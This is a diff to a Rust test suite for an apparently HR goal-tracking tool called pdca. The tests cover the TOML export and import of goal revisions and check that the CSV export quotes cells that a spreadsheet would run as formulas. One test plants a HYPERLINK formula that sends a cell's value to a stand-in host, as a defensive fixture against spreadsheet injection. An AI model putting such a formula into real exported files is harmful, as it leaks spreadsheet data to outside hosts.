@@ -145,6 +145,44 @@ fn export_import_export_of_the_sample_is_byte_identical() {
 }
 
 #[test]
+fn revisions_and_changes_since_approval_go_into_the_export_and_come_back() {
+    use pdca::model::command::Command;
+    use pdca::model::edit::{Edit, GoalFields};
+    let (dir, data) = sample();
+    type_in_measured_values(&data);
+    // P0020's sheet is approved: a goal's weight revised, another goal removed.
+    let today = Date::from_ymd(2026, 11, 20).unwrap();
+    let mut workspace = pdca::workspace::Workspace::open(Store::new(&data), None, "P0020".into(), today).unwrap();
+    let goals = workspace.world.goals_of("P0020").to_vec();
+    let reason = |text: &str| Some((today, text.to_owned()));
+    let weight = goals[0].weight.unwrap() + 10;
+    let fields = GoalFields { weight: Some(weight), ..GoalFields::of(&goals[0]) };
+    let update = Edit::UpdateGoal { goal: goals[0].id.clone(), fields, revision: reason("測定範囲の拡大") };
+    workspace.execute(Command::Sheet(update)).unwrap();
+    let remove = Edit::RemoveGoal { goal: goals[1].id.clone(), revision: reason("事業の中止") };
+    workspace.execute(Command::Sheet(remove)).unwrap();
+
+    let first = String::from_utf8(export_of(&data, &[])).unwrap();
+    let parsed: Export = toml::from_str(&first).unwrap();
+    let person = parsed.people.iter().find(|p| p.id == "P0020").unwrap();
+    let removed = &person.revisions[0];
+    assert_eq!((removed.goal.as_str(), removed.reason.as_str()), (goals[1].id.as_str(), "事業の中止"));
+    let revised = person.goals.iter().find(|g| g.id == goals[0].id).unwrap();
+    assert_eq!(revised.revisions[0].reason, "測定範囲の拡大");
+    assert_eq!(revised.revisions[0].fields, ["weight"]);
+    let changes: Vec<(&str, Option<&str>)> =
+        person.changes_since_approval.iter().map(|c| (c.field.as_str(), c.after.as_deref())).collect();
+    assert_eq!(changes, [("weight", Some(weight.to_string().as_str())), ("goal", None)]);
+
+    // Back from the export, the same export.
+    let file = dir.path().join("first.toml");
+    fs::write(&file, &first).unwrap();
+    let copy = dir.path().join("copy");
+    pdca(&copy).args(["--as", HR, "import", "--identity", "demo", "--from-export"]).arg(&file).assert().success();
+    assert_eq!(String::from_utf8(export_of(&copy, &[])).unwrap(), first);
+}
+
+#[test]
 fn an_independent_parser_reads_the_same_people_and_goals() {
     let (_dir, data) = sample();
     let text = String::from_utf8(export_of(&data, &[])).unwrap();
@@ -228,21 +266,21 @@ fn the_csv_export_parses_back_to_the_same_rows() {
 #[test]
 fn cells_a_spreadsheet_would_run_as_formulas_are_quoted_unless_raw() {
     let (_dir, data) = sample();
-    let file = data.join("cycles/2026/goals/P0011.toml");
+    let file = data.join("cycles/2026/goals/P0020.toml");
     let text = fs::read_to_string(&file).unwrap();
     let hostile = "=HYPERLINK(\\\"http://example.invalid/?\\\"&A1,\\\"更新\\\")";
-    fs::write(&file, text.replacen("title = \"受験申込オンライン受付の実施\"", &format!("title = \"{hostile}\""), 1))
+    fs::write(&file, text.replacen("title = \"RPA導入効果の測定と報告\"", &format!("title = \"{hostile}\""), 1))
         .unwrap();
     let written = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"更新\")";
     let title_of = |bytes: &[u8]| {
         let (_, rows) = parse_csv(bytes);
-        rows.into_iter().find(|row| row[10] == "P0011-2026-1").unwrap()[11].clone()
+        rows.into_iter().find(|row| row[10] == "P0020-2026-1").unwrap()[11].clone()
     };
     assert_eq!(title_of(&export_of(&data, &["--format", "csv"])), format!("'{written}"));
     assert_eq!(title_of(&export_of(&data, &["--format", "csv", "--raw"])), written);
     // The TOML export is data, not a spreadsheet: the title as it is.
     let toml_export: Export = toml::from_str(&String::from_utf8(export_of(&data, &[])).unwrap()).unwrap();
-    let goal = toml_export.people.iter().flat_map(|p| &p.goals).find(|g| g.id == "P0011-2026-1").unwrap();
+    let goal = toml_export.people.iter().flat_map(|p| &p.goals).find(|g| g.id == "P0020-2026-1").unwrap();
     assert_eq!(goal.title, written);
 }
 
@@ -772,6 +810,7 @@ fn build(
                 at: at(clock),
                 comment: if step == Step::SendBack { "再提出を\n\"お願い\"".into() } else { String::new() },
                 plan: if step == Step::Approve { plan.clone() } else { Vec::new() },
+                confirmed: None,
                 extra: Extra::new(),
             };
             if matches!(step, Step::Submit | Step::SelfCheck) {
